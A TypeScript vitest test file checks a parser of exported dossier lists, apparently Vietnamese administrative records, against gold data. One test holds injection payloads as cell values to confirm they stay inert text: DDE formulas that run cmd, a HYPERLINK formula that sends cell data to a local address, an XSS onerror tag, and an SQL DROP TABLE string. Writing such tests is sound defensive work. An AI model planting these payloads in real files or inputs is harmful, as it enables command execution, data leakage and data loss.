import { describe, expect, it } from 'vitest'
import { differenceCounts, differenceOf } from '../../shared/dossier/difference.ts'
import { printedList } from '../../shared/dossier/printed.ts'
import { calendar, differenceGold, dossierGold, lists, readList } from '../support/dossier-gold.ts'
import { exported } from '../support/stats-gold.ts'

/**
 * The gold says that these rows lost the zeros of their dates; but every part of those dates has two digits anyway, so
 * that nothing of it stands in the file.
 */
const traceless: Readonly<Record<string, readonly number[]>> = { B1: [193, 201, 346], B2: [241, 255, 340] }

const printed = async (name: 'B1' | 'B2') =>
  printedList(lists[name], await readList(exported(lists[name])), dossierGold(name).exportTime, calendar)

const sorted = <T extends { readonly code: string }>(entries: readonly T[]): T[] =>
  [...entries].sort((a, b) => (a.code < b.code ? -1 : 1))

describe.each(['B1', 'B2'] as const)('The list %s', (name) => {
  it('gives every dossier of its gold, key by key, flags included', async () => {
    const list = await printed(name)
    const gold = dossierGold(name)
    const wanted = gold.dossiers.map((dossier) =>
      traceless[name]?.includes(dossier.row)
        ? { ...dossier, flags: dossier.flags.filter((flag) => flag !== 'dateNoZeros') }
        : dossier,
    )
    expect(list.dossiers.map(({ raw: _, ...dossier }) => dossier)).toEqual(wanted)
  })

  it('joins, skips, counts and asks as its gold does', async () => {
    const list = await printed(name)
    const gold = dossierGold(name)
    expect(sorted(list.duplicates)).toEqual(sorted(gold.duplicates))
    expect(list.skipped).toEqual(gold.skipped)
    expect(list.apology).toEqual(gold.apology)
    expect(list.counts).toEqual(gold.counts)
    expect(list.review).toEqual(gold.review)
    expect(list.period).toEqual(gold.period)
    expect(list.stateMap).toMatchObject(gold.stateMap)
  })

  it('tells its own moment and that it is the whole list', async () => {
    const list = await readList(exported(lists[name]))
    expect([list.exportTime, list.partial]).toEqual([dossierGold(name).exportTime, false])
  })
})

it('compares two lists of one office as the gold does, and takes noise for no change', async () => {
  const [before, after] = await Promise.all([readList(exported(lists.B1)), readList(exported(lists.B2))])
  const listAt = (list: typeof before, at: string) => ({
    dossiers: list.dossiers,
    at,
    from: list.period?.from ?? null,
    partial: false,
  })
  const difference = differenceOf(
    listAt(before, dossierGold('B1').exportTime),
    listAt(after, dossierGold('B2').exportTime),
    calendar,
  )
  const gold = differenceGold()
  for (const kind of [
    'new',
    'disappeared',
    'finished',
    'withdrawn',
    'reopened',
    'dueChanged',
    'finishDateChanged',
    'changed',
  ] as const) {
    const found: readonly { readonly code: string }[] = difference[kind]
    expect({ [kind]: sorted(found) }).toEqual({ [kind]: sorted(gold[kind] ?? []) })
  }
  expect(differenceCounts(difference)).toEqual(gold.counts)
})

it('takes formulas, markup and SQL in cells as the text they are', async () => {
  const { dossiers } = await readList(exported(lists.B5b))
  const people = dossiers.map(({ party }) => party)
  expect(people.map(({ applicant }) => applicant)).toEqual([
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1/x?d="&B2,"Nguyễn Văn Mẫu")',
    "@SUM(1+1)*cmd|' /C notepad'!A0",
    'Nguyễn Văn Mẫu Một',
    'Nguyễn Văn Mẫu Một',
    '<img src=x onerror=alert(1)>Trần Thị Thử',
    "Lê Văn Mẫu'); DROP TABLE dossiers;--",
    'Nguyễn Thị Mẫu',
    'Phạm Thị Mẫu Chín',
    'Võ Văn Mẫu Mười',
  ])
  expect(people[3]?.phone).toBe('0900000111')
  expect(people[4]?.address).toBe("-2+3+cmd|' /C calc'!A0")
  expect(dossiers.filter(({ flags }) => flags.includes('formula')).map(({ row }) => row)).toEqual([10, 11])
})

it('reads a list without a dossier as empty, and a list of the late ones as a part', async () => {
  const list = await readList(exported('B5e_DanhSachHoSo_khong-co-ho-so.xlsx'))
  expect([list.rows, list.dossiers.length, list.partial]).toEqual([0, 0, true])
  expect(list.skipped.map(({ row, reason }) => [row, reason])).toEqual([
    [1, 'title'],
    [2, 'title'],
    [3, 'title'],
    [5, 'header'],
    [6, 'noData'],
    [7, 'footer'],
  ])
})
